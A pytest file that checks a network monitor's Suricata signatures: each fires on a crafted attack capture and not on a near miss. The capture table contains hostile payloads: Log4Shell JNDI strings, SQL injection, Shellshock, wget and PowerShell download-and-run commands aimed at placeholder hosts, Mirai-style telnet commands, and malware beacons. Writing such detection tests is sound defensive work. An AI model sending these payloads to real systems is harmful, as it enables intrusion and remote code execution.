"""Each of Guardian's own signatures by capture: real Suricata fires on its hit and not on its near miss.

All hits and near misses are one capture, each from an address of its own, so that Suricata
starts once. A signature without a row here fails the test.
"""

# ruff: noqa: E501 - a row of the table stays on one line
from __future__ import annotations

import json
import random
import re
import shutil
import struct
import zlib
from typing import TYPE_CHECKING, Any

import pytest
from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import ICMP, TCP, UDP
from scapy.packet import Raw

from guardian import resources
from guardian.collect import suricata
from guardian.collect.settings import Settings
from guardian.lab.packets import Host, Wire
from guardian.lab.tls import tls_client_hello
from guardian.model.finding import FindingClass, Level

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

pytestmark = pytest.mark.skipif(shutil.which("suricata") is None, reason="no Suricata here")

START = 1_768_000_000.0
BARE = "198.51.100.9"
PE = b"MZ" + bytes(58) + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\x00\xb4\tThis program cannot be run in DOS mode.\r\n$" + bytes(10) + b"PE\x00\x00" + bytes(300)  # fmt: skip
ELF = b"\x7fELF\x01\x01\x01" + bytes(400)


def http(
    path: str = "/",
    *,
    host: str = "www.site.example",
    method: str = "GET",
    agent: str = "Mozilla/5.0",
    headers: str = "",
    body: bytes = b"",
    answer: bytes = b"<html>hello</html>",
    kind: str = "text/html",
    port: int = 80,
) -> Callable[[Wire, float, str], object]:
    """Return a play of one request and its answer."""
    length = f"Content-Length: {len(body)}\r\n" if body else ""
    ask = (
        f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n{headers}{length}\r\n"
    )
    reply = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(answer)}\r\n\r\n"
    talk = [(">", ask.encode() + body), ("<", reply.encode() + answer)]
    return lambda wire, when, client: wire.tcp(when, client, BARE, port, talk)


def tcp(port: int, *talk: tuple[str, bytes]) -> Callable[[Wire, float, str], object]:
    return lambda wire, when, client: wire.tcp(when, client, BARE, port, list(talk))


def udp(port: int, data: bytes, times: int = 1) -> Callable[[Wire, float, str], object]:
    def play(wire: Wire, when: float, client: str) -> None:
        for n in range(times):
            wire.udp(when + n, client, 40000 + n, BARE, port, data)

    return play


def ping(data: Callable[[int], bytes], times: int) -> Callable[[Wire, float, str], object]:
    def play(wire: Wire, when: float, client: str) -> None:
        for n in range(times):
            packet = wire.ether(client, BARE) / ICMP(type=8, id=7, seq=n) / Raw(data(n))
            wire.add(when + n, packet)

    return play


def flags(word: str) -> Callable[[Wire, float, str], object]:
    def play(wire: Wire, when: float, client: str) -> None:
        for n in range(3):
            packet = wire.ether(client, BARE) / TCP(sport=40000, dport=20 + n, flags=word, seq=9)
            wire.add(when + n / 10, packet)

    return play


def ask(name: str, kind: str | int = "A", times: int = 1) -> Callable[[Wire, float, str], object]:
    def play(wire: Wire, when: float, client: str) -> None:
        for n in range(times):
            question = DNS(id=n + 1, rd=1, qd=DNSQR(qname=name.replace("#", str(n)), qtype=kind))
            packet = wire.ether(client, BARE) / UDP(sport=41000 + n, dport=53) / question
            wire.add(when + n, packet)

    return play


def hello(sni: str) -> Callable[[Wire, float, str], object]:
    data = tls_client_hello(random.Random(1), sni, (0x1301,), ())
    return tcp(443, (">", data))


def smb1(command: bytes, body: bytes, *, status: bytes = bytes(4)) -> bytes:
    packet = b"\xffSMB" + command + status + body
    return struct.pack(">I", len(packet)) + packet


def noise(n: int) -> bytes:
    return random.Random(n).randbytes(600)


def call(number: int, body: bytes) -> bytes:
    """Return a request of DCE/RPC by its number."""
    head = struct.pack("<BBBBIHHI", 5, 0, 0, 3, 16, 24 + len(body), 0, 7)
    return head + struct.pack("<IHH", len(body), 0, number) + body


def rpc(uuid: str, number: int, body: bytes = b"\x11" * 40) -> Callable[[Wire, float, str], object]:
    """Bind an interface and make a call."""
    item = struct.pack("<BBHHBB", 1, 0, 0, 0, 1, 0) + bytes.fromhex(uuid) + bytes(24)
    bind = struct.pack("<BBBBIHHIHHI", 5, 0, 11, 3, 16, 24 + len(item), 0, 7, 5840, 5840, 0) + item
    asked = [(">", call(number, body)), ("<", b"\x05\x00\x02\x03" + bytes(20))]
    return tcp(49155, (">", bind), ("<", b"\x05\x00\x0c\x03" + bytes(40)), *asked)


def heart(
    asked: bytes, answered: bytes, *, sealed: bool = False
) -> Callable[[Wire, float, str], object]:
    """Shake hands, then ask for a heartbeat and answer it."""
    client = tls_client_hello(random.Random(1), "www.site.example", (0x1301,), ())
    body = b"\x03\x03" + bytes(32) + b"\x00\x00\x2f\x00"
    server = (
        b"\x16\x03\x03"
        + struct.pack(">H", len(body) + 4)
        + b"\x02"
        + struct.pack(">I", len(body))[1:]
        + body
    )
    beat = [
        (side, b"\x18\x03\x03" + struct.pack(">H", len(data)) + data)
        for side, data in ((">", asked), ("<", answered))
        if data
    ]
    seals = [(side, b"\x14\x03\x03\x00\x01\x01") for side in (">", "<") if sealed]
    return tcp(443, (">", client), ("<", server), *seals, *beat)


PIPE = "\\PIPE\\".encode("utf-16-le")
ETERNAL = smb1(b"\x33", bytes(30) + b"A" * 64)
TRANS = smb1(b"\x25", bytes(20) + b"\x23\x00\x00\x00\x07\x00" + PIPE + b"\x00")
STRATUM = b'{"id":1,"method":"mining.subscribe","params":["x/1.0"]}\n'
SOAP = (
    b'<?xml version="1.0"?><s:Envelope><s:Body><u:AddPortMapping xmlns:u="urn:x">'
    b"<NewInternalPort>445</NewInternalPort></u:AddPortMapping></s:Body></s:Envelope>"
)
CRADLE = b"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/b')"
GHOST = b"Gh0st" + struct.pack("<II", 60, 100) + zlib.compress(b"x" * 100)
WMI_BIND = "f309be4f1d6bd111b2a400c04fb92d6b"
MMC = bytes.fromhex("1a79b249aeb1904c9b8ee860ba07f889")
SHELL = bytes.fromhex("7259a09ba8f6cf11a44200a0c90a8f39")
BROWSER = bytes.fromhex("90fd8ac0a1f2d111845500a0c91f3880")
PCRAT = b"ABCDE12345" + struct.pack(">I", 60) + struct.pack("<I", 100) + zlib.compress(b"x" * 100)
BARE_HOST: dict[str, Any] = {"host": BARE}

TABLE: dict[int, tuple[Callable[[Wire, float, str], object], Callable[[Wire, float, str], object]]] = {
    9000101: (flags(""), flags("S")),
    9000102: (flags("F"), flags("FA")),
    9000103: (flags("FPU"), flags("PA")),
    9000201: (http("/?x=${jndi:ldap://a.example/b}"), http("/?x=jndi:ldap")),
    9000202: (http(headers="X-Api: ${jndi:ldap://a.example/b}\r\n"), http(headers="X-Api: jndi\r\n")),
    9000203: (http(method="POST", body=b"u=${jndi:rmi://a.example/b}"), http(method="POST", body=b"u=jndi:rmi")),
    9000204: (http("/?x=${${lower:j}ndi:${lower:l}dap://a.example/b}"), http("/?price=${total}")),
    9000205: (http(headers="X-A: ${${env:NOPE:-j}ndi:ldap://a.example/b}\r\n"), http(headers="X-A: ${name}\r\n")),
    9000206: (tcp(25565, (">", b"\x10chat ${jndi:ldap://a.example/b}")), tcp(25565, (">", b"\x10chat jndi:ldap"))),
    9000207: (http("/Exploit.class", agent="Java/1.8.0_181", **BARE_HOST), http("/Exploit.class", agent="Java/1.8.0_181")),
    9000210: (http("/f?n=../../../../boot.ini"), http("/a/../b")),
    9000211: (http("/f?n=/etc/passwd"), http("/etc/password-help")),
    9000212: (http("/ping?h=1;wget%20http://198.51.100.1/x"), http("/shop;jsessionid=1?cat=2")),
    9000213: (http(method="POST", body=b"h=1;wget http://198.51.100.1/x.sh"), http(method="POST", body=b"h=1;see wget manual")),
    9000214: (http("/i?id=1%20union%20select%20user,pass"), http("/search?q=credit%20union%20selection")),
    9000215: (http("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), http("/s?q=typescript")),
    9000216: (http("/i.php?f=php://input"), http("/i.php?f=phpinput")),
    9000217: (http(method="POST", body=b"c=<?php system('id'); ?>"), http(method="POST", body=b"c=php system")),
    9000218: (http(headers="Referer: () { :; }; /bin/id\r\n"), http(headers="Referer: f() { }\r\n")),
    9000219: (http(headers="Content-Type: %{(#_memberAccess['x'])}\r\n"), http(headers="X-Size: 100%{a}\r\n")),
    9000220: (http("/GponForm/diag_Form?images/", method="POST", body=b"x=1"), http("/forms/diagnosis")),
    9000221: (http(agent="sqlmap/1.7"), http(agent="SquidMap/1.7")),
    9000222: (http("/i.php?p=http://a.example/shell.txt?"), http("/i.php?back=http://a.example/home")),
    9000230: (tcp(445, (">", ETERNAL)), tcp(445, (">", smb1(b"\x33", bytes(30) + b"AB" * 32)))),
    9000231: (
        tcp(445, (">", smb1(b"\xa0", bytes(20) + b"\x01" + bytes(6) + bytes(20) + b"\x00\xd0" + bytes(20)))),
        tcp(445, (">", smb1(b"\xa0", bytes(20) + b"\x01" + bytes(60)))),
    ),
    9000232: (tcp(445, (">", smb1(b"\x75", bytes(30) + b"__USERID__PLACEHOLDER__"))), tcp(445, (">", smb1(b"\x75", bytes(30) + b"userid")))),
    9000233: (
        tcp(445, (">", smb1(b"\x32", bytes(56) + b"\x0e\x00" + bytes(20)))),
        tcp(445, (">", smb1(b"\x32", bytes(56) + b"\x05\x00" + bytes(20)))),
    ),
    9000234: (
        tcp(445, (">", smb1(b"\x32", bytes(40))), ("<", smb1(b"\x32", bytes(21) + b"\x51\x00" + bytes(9), status=b"\x02\x00\x00\xc0"))),
        tcp(445, (">", smb1(b"\x32", bytes(40))), ("<", smb1(b"\x32", bytes(21) + b"\x41\x00" + bytes(9), status=b"\x02\x00\x00\xc0"))),
    ),
    9000235: (tcp(445, (">", TRANS)), tcp(445, (">", smb1(b"\x25", bytes(20) + b"\x26\x00\x00\x00\x07\x00" + PIPE)))),
    9000240: (rpc("81bb7a364498f135ad3298f038001003", 12), rpc("81bb7a364498f135ad3298f038001003", 15)),
    9000241: (rpc("4959d386c9834440b424db363231fd0c", 1), rpc("4959d386c9834440b424db363231fd0c", 7)),
    9000242: (rpc("8206f71f510ae830076d740be8cee98b", 0), rpc("8206f71f510ae830076d740be8cee98b", 2)),
    9000243: (rpc("99dc56958c82cf11a37e00aa003240c7", 24), rpc("99dc56958c82cf11a37e00aa003240c7", 20)),
    9000244: (rpc("785634123412cdabef0001234567cffb", 4, bytes(30) + bytes(8)), rpc("785634123412cdabef0001234567cffb", 4, bytes(30) + b"\x91\x3e\x07\x55\x10\x99\xa1\x01")),
    9000246: (rpc("88d481c650d8d0118c5200c04fd90f7e", 0), rpc("88d481c650d8d0118c5200c04fd90f7e", 9)),
    9000247: (rpc("785634123412cdabef000123456789ab", 89), rpc("785634123412cdabef000123456789ab", 10)),
    9000248: (rpc("963ff076fdcdfc44a22c64950a001209", 39), rpc("963ff076fdcdfc44a22c64950a001209", 20)),
    9000249: (
        tcp(445, (">", call(31, "\\x\\..\\..\\y".encode("utf-16-le")))),
        tcp(445, (">", call(31, "\\x\\y".encode("utf-16-le")))),
    ),
    9000250: (
        tcp(445, (">", bytes(4) + b"\xfcSMB" + struct.pack("<IHHI", 0xFFFFFFFF, 1, 0, 0) + b"x" * 20)),
        tcp(445, (">", bytes(4) + b"\xfcSMB" + struct.pack("<IHHI", 4096, 1, 0, 0) + b"x" * 20)),
    ),
    9000251: (
        tcp(445, (">", bytes(4) + b"\xfcSMB" + struct.pack("<IHHI", 50, 1, 0, 0xFFFFFFF0) + b"x" * 20)),
        tcp(445, (">", bytes(4) + b"\xfcSMB" + struct.pack("<IHHI", 50, 1, 0, 16) + b"x" * 20)),
    ),
    9000252: (heart(b"\x01\x40\x00", b""), heart(b"\x01\x00\x10" + bytes(32), b"")),
    9000253: (heart(noise(1)[:60], noise(2) * 5, sealed=True), heart(noise(1)[:60], noise(2)[:60], sealed=True)),
    9000254: (udp(1434, b"\x04" + b"\x01" * 375), udp(1434, b"\x04MSSQLSERVER")),
    9000255: (tcp(6667, (">", b"AB;sh -c id;\n")), tcp(6667, (">", b"ABC hello\r\n"))),
    9000256: (
        http("/v?u=%24%7b%22freemarker.template.utility.Execute%22%3fnew()(%22id%22)%7d"),
        http("/v?u=%7b%7bname%7d%7d"),
    ),
    9000258: (
        http("/a", agent="Mozilla/4.0 (Windows 7 6.1) Java/1.7.0_21", answer=PE, kind="application/octet-stream"),
        http("/a", agent="Java/1.8.0_181", answer=PE, kind="application/octet-stream"),
    ),
    9000260: (
        http("/?q=x8", answer=b"\x3d\x7c" + bytes(200), kind="application/x-msdownload"),
        http("/w/a.psf", answer=b"\x3d\x7c" + bytes(200), kind="application/x-msdownload"),
    ),
    9000270: (rpc(WMI_BIND, 3, bytes(80) + MMC), tcp(445, (">", b"\x00\x00\x05\x00" + bytes(80) + MMC))),
    9000271: (rpc(WMI_BIND, 3, bytes(80) + SHELL), rpc(WMI_BIND, 3, bytes(80) + SHELL[::-1])),
    9000272: (rpc(WMI_BIND, 3, bytes(80) + BROWSER), rpc(WMI_BIND, 3, bytes(80) + BROWSER[::-1])),
    9000274: (
        heart(noise(1)[:32], noise(2) * 16, sealed=True),
        heart(noise(1)[:32], noise(2)[:48], sealed=True),
    ),
    9000275: (heart(b"\x01\x03\xfd" + bytes(1021), b""), heart(b"\x01\x03\xed" + bytes(1021), b"")),
    9000301: (http("/a.bin", answer=PE, kind="application/octet-stream", **BARE_HOST), http("/a.bin", answer=PE[2:], **BARE_HOST)),
    9000302: (http("/a.arm", answer=ELF, kind="application/octet-stream", **BARE_HOST), http("/a.arm", answer=ELF)),
    9000303: (http("/a.png", answer=PE, kind="image/png"), http("/a.exe", answer=PE, kind="application/octet-stream")),
    9000304: (
        http("/x", answer=b"#!/bin/sh\nwget http://198.51.100.9/b; chmod 777 b; sh b\n", kind="text/plain", **BARE_HOST),
        http("/x", answer=b"#!/bin/sh\necho hello\n", kind="text/plain", **BARE_HOST),
    ),
    9000305: (http("/setup.exe", answer=PE, kind="application/octet-stream"), http("/setup.zip", answer=b"PK\x03\x04" + bytes(300))),
    9000306: (http("/a.ps1", agent="Mozilla/5.0 (Windows NT) WindowsPowerShell/5.1", **BARE_HOST), http("/a.ps1", agent="WindowsPowerShell/5.1")),
    9000308: (http("/f.php?id=7", answer=PE, kind="application/octet-stream"), http("/f.bin", answer=PE, kind="application/octet-stream")),
    9000310: (
        tcp(4444, (">", b"Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft\r\nC:\\>")),
        tcp(4444, (">", b"I run Microsoft Windows at home")),
    ),
    9000311: (tcp(4444, ("<", b"id\n"), (">", b"uid=0(root) gid=0(root) groups=0(root)\n")), tcp(4444, (">", b"uid=1000 gid=1000\n"))),
    9000312: (http("/c?x=1", answer=b"<pre>uid=33(www-data) gid=33(www-data)</pre>"), http("/c?x=1", answer=b"<pre>uid=33</pre>")),
    9000320: (ping(noise, 15), ping(lambda _n: b"abcdefghijklmnopqrstuvwabcdefghi" * 20, 15)),
    9000321: (ping(lambda _n: b"SSH-2.0-OpenSSH_9.2\r\n", 1), ping(lambda _n: b"abcdefghijklmnopqrstuvw", 1)),
    9000330: (ask("dnscat.0011223344556677.example"), ask("dns.cat-pictures.example")),
    9000331: (ask("a#bcdefgh.t.example", 10, 12), ask("a#bcdefgh.t.example", "A", 12)),
    9000340: (tcp(4444, (">", b"x"), ("<", struct.pack("<I", len(PE)) + PE)), tcp(4444, (">", b"x"), ("<", bytes(40) + b"MZ is a prefix"))),
    9000341: (http("/s", answer=CRADLE, kind="text/plain"), http("/s", answer=CRADLE, kind="text/html")),
    9000342: (tcp(8000, (">", GHOST)), tcp(8000, (">", b"HELLO" + bytes(8) + b"xx"))),
    9000343: (tcp(5552, (">", b"149\x00ll|'|'|SGFjS2Vk|'|'|PC|'|'|user")), tcp(5552, (">", b"all|it|is|'|'|text"))),
    9000344: (tcp(23, ("<", b"login: "), (">", b"enable\r\nsh\r\n/bin/busybox MIRAI\r\n")), tcp(23, ("<", b"login: "), (">", b"/bin/busybox ls -l\r\n"))),
    9000345: (
        tcp(23, ("<", b"# "), (">", b"cd /tmp; wget http://198.51.100.1/b; chmod 777 b; ./b\r\n")),
        tcp(23, ("<", b"# "), (">", b"chmod 644 notes; wget --help\r\n")),
    ),
    9000346: (
        tcp(5555, (">", b"OPEN" + bytes(20) + b"shell:cd /data/local/tmp/; wget http://198.51.100.1/w.sh\x00")),
        tcp(5555, (">", b"OPEN" + bytes(20) + b"shell:getprop ro.product.model\x00")),
    ),
    9000347: (
        tcp(6379, (">", b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n")),
        tcp(6379, (">", b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n")),
    ),
    9000348: (tcp(6667, (">", b"NICK [DEU|XP]48213\r\nUSER x 0 * :x\r\n")), tcp(6667, (">", b"NICK anna\r\nUSER anna 0 * :Anna\r\n"))),
    9000349: (
        tcp(6667, (">", b"JOIN #x\r\n"), ("<", b":m!m@h PRIVMSG #x :.advscan 445 100 5\r\n")),
        tcp(6667, (">", b"JOIN #x\r\n"), ("<", b":m!m@h PRIVMSG #x :did you scan the page?\r\n")),
    ),
    9000360: (tcp(8219, (">", b"140\r\nping|X|C4BA|PC-7|anna|Windows 10 Pro|64-bit|no\r\n")), tcp(8219, (">", b"note|Windows 10 is here|read\r\n"))),
    9000361: (http("/add.php?who=CALDO-PC%7CJoseph"), http("/find?q=cheap-PC")),
    9000364: (
        http("/get.php?id=7", answer=PE, kind="application/octet-stream"),
        http("/get.php?id=7", answer=PE, kind="application/octet-stream", headers="Referer: http://www.site.example/\r\n"),
    ),
    9000365: (tcp(900, (">", PCRAT)), tcp(900, (">", b"ABCDE12345" + noise(6)[:8] + zlib.compress(b"x" * 100)))),
    9000401: (tcp(3333, (">", STRATUM)), tcp(3333, (">", b'{"id":1,"method":"mining_news.list"}\n'))),
    9000402: (
        tcp(3333, (">", b"{}\n"), ("<", b'{"id":null,"method":"mining.notify","params":[]}\n')),
        tcp(3333, (">", b"{}\n"), ("<", b'{"id":null,"method":"notify","params":[]}\n')),
    ),
    9000403: (tcp(8333, (">", b"\xf9\xbe\xb4\xd9version" + bytes(5) + bytes(80))), tcp(8333, (">", b"\xf9\xbe\xb4\xd9verack" + bytes(6)))),
    9000404: (
        tcp(8332, (">", b'{"id":1,"method":"getblocktemplate","params":[]}\n')),
        tcp(8332, (">", b'{"id":1,"method":"getblockcount","params":[]}\n')),
    ),
    9000405: (tcp(18080, (">", b"\x01\x21\x01\x01\x01\x01\x01\x01" + bytes(40))), tcp(18080, (">", b"\x01\x21\x01\x02" + bytes(40)))),
    9000406: (udp(30303, noise(5)[:97] + b"\x01\xe4\x04\xcb" + bytes(33), times=4), udp(30303, noise(5)[:97] + b"\x02\xe4\x04\xcb" + bytes(33), times=4)),
    9000410: (hello("www.abcdefghij234567.com"), hello("www.shop-of-mine.example")),
    9000411: (ask("abcdefghij234567.onion"), ask("onions.example")),
    9000412: (udp(13680, b"\x38" + noise(3)[:8] + bytes(5)), udp(13680, b"\x28" + noise(3)[:8] + bytes(5))),
    9000413: (tcp(443, (">", b"\x00\x0e\x38" + noise(3)[:8] + bytes(5))), tcp(443, (">", b"\x00\x0e\x28" + noise(3)[:8] + bytes(5)))),
    9000414: (udp(51000, b"\x01\x00\x00\x00" + noise(4)[:144]), udp(51000, b"\x04\x00\x00\x00" + noise(4)[:144])),
    9000420: (http("/admin", headers="Authorization: Basic dXNlcjpwYXNzd29yZA==\r\n"), http("/admin", headers="Authorization: Digest x\r\n")),
    9000421: (
        tcp(110, ("<", b"+OK ready\r\n"), (">", b"USER anna\r\n"), ("<", b"+OK\r\n"), (">", b"PASS secret1\r\n")),
        tcp(110, ("<", b"+OK ready\r\n"), (">", b"CAPA\r\n"), ("<", b"+OK\r\nSTLS\r\n.\r\n"), (">", b"STLS\r\n")),
    ),
    9000422: (
        tcp(1883, (">", b"\x10\x20\x00\x04MQTT\x04\xc2\x00\x3c\x00\x02ab\x00\x04user\x00\x0asecretpass")),
        tcp(1883, (">", b"\x10\x0e\x00\x04MQTT\x04\x02\x00\x3c\x00\x02ab")),
    ),
    9000424: (tcp(23, (">", b"\xff\xfd\x18"), ("<", b"\r\nrouter login: ")), tcp(23, (">", b"\xff\xfd\x18"), ("<", b"\r\nmenu: "))),
    9000425: (
        http("/do", method="POST", body=b"user=anna&password=secret1", headers="Content-Type: application/x-www-form-urlencoded\r\n"),
        http("/do", method="POST", body=b"user=anna&passage=long", headers="Content-Type: application/x-www-form-urlencoded\r\n"),
    ),
    9000430: (
        http("/ctl/IPConn", method="POST", body=SOAP, headers="Content-Type: text/xml\r\n", port=5000),
        http("/ctl/IPConn", method="POST", body=SOAP.replace(b"Add", b"Get"), headers="Content-Type: text/xml\r\n", port=5000),
    ),
    9000431: (udp(5351, b"\x00\x02\x00\x00" + struct.pack(">HHI", 445, 445, 7200)), udp(5351, b"\x00\x00")),
    9000432: (udp(5351, b"\x02\x01" + bytes(58)), udp(5351, b"\x02\x00" + bytes(22))),
}  # fmt: skip
"""Signature, its hit and its near miss."""

SILENT = frozenset(
    {9000257, 9000259, 9000300, 9000307, 9000273, 9000362, 9000363} | set(range(9000261, 9000270))
)
"""They only set a flow bit that others ask for, whose hits and near misses are theirs too."""


def _signatures() -> dict[int, str]:
    lines = [
        line
        for path in sorted(resources.path("rules/suricata").glob("*.rules"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.startswith("alert ")
    ]
    return {int(re.search(r"\bsid:(\d+);", line)[1]): line for line in lines}  # type: ignore[index]


def _client(number: int, *, near: bool) -> str:
    return f"10.{20 + near}.{number // 200}.{number % 200 + 1}"


@pytest.fixture(scope="module")
def fired(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[int]]:
    """The signatures that fired, by the address of each conversation's client."""
    folder: Path = tmp_path_factory.mktemp("signatures")
    gateway = Host(name="gw", mac="02:00:00:00:00:01", ip="10.0.0.1")
    wire = Wire(gateway=gateway, home={}, seed=1)
    clients = []
    for number, (hit, near_miss) in enumerate(TABLE.values()):
        for near, play in ((False, hit), (True, near_miss)):
            clients.append(_client(number, near=near))
            play(wire, START + 40 * number + 20 * near, clients[-1])
    capture = folder / "signatures.pcap"
    capture.write_bytes(wire.pcap())
    found: dict[str, set[int]] = {client: set() for client in clients}
    eve = suricata.make_eve(capture, folder, Settings())
    for line in eve.read_text(encoding="utf-8").splitlines():
        event = json.loads(line)
        if event["event_type"] == "alert":
            for side in (event["src_ip"], event["dest_ip"]):
                if side in found:
                    found[side].add(event["alert"]["signature_id"])
    return found


def test_every_signature_has_a_capture() -> None:
    assert set(_signatures()) - SILENT == set(TABLE)


@pytest.mark.parametrize(("number", "sid"), list(enumerate(TABLE)))
def test_it_fires_on_its_hit_alone(number: int, sid: int, fired: dict[str, set[int]]) -> None:
    assert sid in fired[_client(number, near=False)], "the hit was not seen"
    assert sid not in fired[_client(number, near=True)], "the near miss was taken for it"


def test_the_metadata_is_complete() -> None:
    for sid, line in _signatures().items():
        assert 9_000_101 <= sid <= 9_000_499, sid
        assert re.search(r"\brev:\d+;", line), sid
        assert re.search(r"\bclasstype:[a-z-]+;", line), sid
        assert re.search(r'msg:"GUARDIAN [a-z ]+: [^"]+"', line), sid
        words = dict(re.findall(r"(guardian_\w+) (\w+)", line))
        if words.get("guardian_use") != "evidence":
            FindingClass(words["guardian_class"])
            Level(words["guardian_level"])
            assert "reference:" in line, f"{sid} does not say where to read on"
